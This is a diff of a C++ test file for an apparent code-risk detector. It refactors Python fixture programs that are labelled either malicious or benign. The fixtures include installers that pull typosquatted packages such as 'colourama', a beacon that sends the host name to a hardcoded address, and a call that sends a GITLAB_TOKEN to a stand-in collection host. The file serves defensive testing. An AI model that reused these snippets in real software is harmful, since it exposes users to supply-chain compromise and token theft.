@@ -8,6 +8,12 @@
 namespace mai::assess::test {
 namespace {
 
+// A program written once with a SLOT, filled with each variant's text.
+std::string filled(std::string program, const std::string& slot, const std::string& text) {
+  program.replace(program.find(slot), slot.size(), text);
+  return program;
+}
+
 // super().__init__(host) of a subclass of a library class makes the
 // instance's library part: the base's methods go to that host. A Docker
 // Engine client over its unix socket sends a database password put into a
@@ -251,45 +257,32 @@ TEST(NinetiethRoundClasses, AnUnquotedExpansionSplitsAtNewlines) {
 // pairs, the known keys of a dict a file may add to, a list extended by
 // another with unknown items, a slice of a generator.
 TEST(NinetiethRoundClasses, PackageNamesSurviveDictsOfPairsAndOpenLists) {
+  const char* installer =
+      "import subprocess, sys\n"
+      "from pathlib import Path\n"
+      "CORE = {'lxml': 'lxml', 'requests': 'requests'}\n"
+      "LEGACY = LEGACY_PAIRS\n"
+      "def build_plan(extra):\n"
+      "    plan = dict(CORE)\n"
+      "    plan.update(dict(LEGACY))\n"
+      "    for line in Path(extra).read_text().splitlines():\n"
+      "        plan.setdefault(line, line)\n"
+      "    return plan\n"
+      "def pip_install(packages):\n"
+      "    cmd = [sys.executable, '-m', 'pip', 'install']\n"
+      "    cmd += packages\n"
+      "    subprocess.run(cmd, check=True)\n"
+      "plan = build_plan(sys.argv[1])\n"
+      "for batch in [list(CORE), [d for d in plan if d not in CORE]]:\n"
+      "    pip_install(batch)\n";
+  const std::string squats =
+      filled(installer, "LEGACY_PAIRS", "[('colou' + 'rama', 'colorama'), ('python3-' + 'dateutil', 'dateutil')]");
+  const std::string genuine =
+      filled(installer, "LEGACY_PAIRS", "[('colo' + 'rama', 'colorama'), ('python-' + 'dateutil', 'dateutil')]");
   const Case cases[] = {
-      {"typosquats from dict(pairs), filtered by a comprehension, added with +=", B,
-       "import subprocess, sys\n"
-       "from pathlib import Path\n"
-       "CORE = {'lxml': 'lxml', 'requests': 'requests'}\n"
-       "LEGACY = [('colou' + 'rama', 'colorama'), ('python3-' + 'dateutil', 'dateutil')]\n"
-       "def build_plan(extra):\n"
-       "    plan = dict(CORE)\n"
-       "    plan.update(dict(LEGACY))\n"
-       "    for line in Path(extra).read_text().splitlines():\n"
-       "        plan.setdefault(line, line)\n"
-       "    return plan\n"
-       "def pip_install(packages):\n"
-       "    cmd = [sys.executable, '-m', 'pip', 'install']\n"
-       "    cmd += packages\n"
-       "    subprocess.run(cmd, check=True)\n"
-       "plan = build_plan(sys.argv[1])\n"
-       "for batch in [list(CORE), [d for d in plan if d not in CORE]]:\n"
-       "    pip_install(batch)\n",
+      {"typosquats from dict(pairs), filtered by a comprehension, added with +=", B, squats.c_str(),
        "KNOWN-MALICIOUS-PACKAGE"},
-      {"the genuine names the same way", M,
-       "import subprocess, sys\n"
-       "from pathlib import Path\n"
-       "CORE = {'lxml': 'lxml', 'requests': 'requests'}\n"
-       "LEGACY = [('colo' + 'rama', 'colorama'), ('python-' + 'dateutil', 'dateutil')]\n"
-       "def build_plan(extra):\n"
-       "    plan = dict(CORE)\n"
-       "    plan.update(dict(LEGACY))\n"
-       "    for line in Path(extra).read_text().splitlines():\n"
-       "        plan.setdefault(line, line)\n"
-       "    return plan\n"
-       "def pip_install(packages):\n"
-       "    cmd = [sys.executable, '-m', 'pip', 'install']\n"
-       "    cmd += packages\n"
-       "    subprocess.run(cmd, check=True)\n"
-       "plan = build_plan(sys.argv[1])\n"
-       "for batch in [list(CORE), [d for d in plan if d not in CORE]]:\n"
-       "    pip_install(batch)\n",
-       "INSTALLS-PACKAGES"},
+      {"the genuine names the same way", M, genuine.c_str(), "INSTALLS-PACKAGES"},
   };
   for (const auto& c : cases) check(c);
 }
@@ -344,12 +337,7 @@ TEST(NinetiethRoundClasses, ConfigParserDefaultsAreEverySectionsOptions) {
       "        self.end_headers()\n"
       "        self.wfile.write(b'doors: 4 open')\n"
       "ThreadingHTTPServer((cfg['bind'], int(cfg['port'])), H).serve_forever()\n";
-  auto with_bind = [&](const char* bind) {
-    std::string code = server;
-    code.replace(code.find("BIND"), 4, bind);
-    return code;
-  };
-  const std::string all = with_bind("'0.0.0.0'"), local = with_bind("'127.0.0.1'");
+  const std::string all = filled(server, "BIND", "'0.0.0.0'"), local = filled(server, "BIND", "'127.0.0.1'");
   const Case cases[] = {
       {"a status page bound to every interface by default", M, all.c_str(), "LISTENS-ON-ALL-INTERFACES"},
       {"the same page on loopback by default", L, local.c_str()},
@@ -372,12 +360,8 @@ TEST(NinetiethRoundClasses, AnEndswithConditionNarrowsAListedName) {
       "path = JOBS.get()\n"
       "with socket.create_connection(('10.20.0.41', 9100)) as sock, open(path, 'rb') as fh:\n"
       "    sock.sendall(fh.read())\n";
-  auto with = [&](const char* condition) {
-    std::string code = spooler;
-    code.replace(code.find("CONDITION"), 9, condition);
-    return code;
-  };
-  const std::string jobs = with("leftover.endswith('.bin')"), every = with("leftover != '.lock'");
+  const std::string jobs = filled(spooler, "CONDITION", "leftover.endswith('.bin')"),
+                    every = filled(spooler, "CONDITION", "leftover != '.lock'");
   const Case cases[] = {
       {"only the .bin jobs go to the printer", L, jobs.c_str()},
       {"every file of the spool, the status file too, goes to a numeric address", B, every.c_str(), "IDENTITY-BEACON"},
@@ -402,12 +386,8 @@ TEST(NinetiethRoundClasses, AGeneratorGivesWhatItYields) {
       "req = Path('.bootstrap-requirements.txt')\n"
       "req.write_text('\\n'.join(list(requirement_lines(groups))) + '\\n')\n"
       "subprocess.run([sys.executable, '-m', 'pip', 'install', '-r', str(req)], check=True)\n";
-  auto with = [&](const char* package) {
-    std::string code = bootstrap;
-    code.replace(code.find("PACKAGE"), 7, package);
-    return code;
-  };
-  const std::string squat = with("'colourama'"), genuine = with("'colorama'");
+  const std::string squat = filled(bootstrap, "PACKAGE", "'colourama'"),
+                    genuine = filled(bootstrap, "PACKAGE", "'colorama'");
   const Case cases[] = {
       {"a typosquat among the requirement lines a generator writes", B, squat.c_str(), "KNOWN-MALICIOUS-PACKAGE"},
       {"the genuine package the same way", M, genuine.c_str(), "INSTALLS-PACKAGES"},
@@ -482,9 +462,8 @@ TEST(NinetiethRoundClasses, ANumericDefaultASettingsFileReplacesIsTheUsersSettin
       "HOST = cfg['hub_host']\n"
       "s = socket.create_connection((HOST, int(cfg['hub_port'])), timeout=15)\n"
       "s.sendall((json.dumps({'op': 'hello', 'host': socket.gethostname()}) + '\\n').encode())\n";
-  std::string fixed = relay;
-  fixed.replace(fixed.find("HOST = cfg['hub_host']"), 22, "HOST = '203.0.113.45'");
-  fixed.replace(fixed.find("int(cfg['hub_port'])"), 20, "9443");
+  const std::string fixed =
+      filled(filled(relay, "HOST = cfg['hub_host']", "HOST = '203.0.113.45'"), "int(cfg['hub_port'])", "9443");
   const Case cases[] = {
       {"hello with the host name to the hub the settings name", L, relay},
       {"the same hello to an address written into the code", B, fixed.c_str(), "IDENTITY-BEACON"},
@@ -501,13 +480,8 @@ TEST(NinetiethRoundClasses, ASelfHostedProductsKeyGoesToItsApiPath) {
       "req = urllib.request.Request(URL, data=b'{}')\n"
       "req.add_header('PRIVATE-TOKEN', os.environ['GITLAB_TOKEN'])\n"
       "urllib.request.urlopen(req, timeout=5)\n";
-  auto to = [&](const char* url) {
-    std::string code = call;
-    code.replace(code.find("URL"), 3, url);
-    return code;
-  };
-  const std::string own = to("'https://git.corp.example.com/api/v4/projects'");
-  const std::string other = to("'https://collect.example.com/t'");
+  const std::string own = filled(call, "URL", "'https://git.corp.example.com/api/v4/projects'");
+  const std::string other = filled(call, "URL", "'https://collect.example.com/t'");
   const Case cases[] = {
       {"the company's GitLab", L, own.c_str()},
       {"a host and path of nobody's GitLab", B, other.c_str(), "EXFILTRATION"},
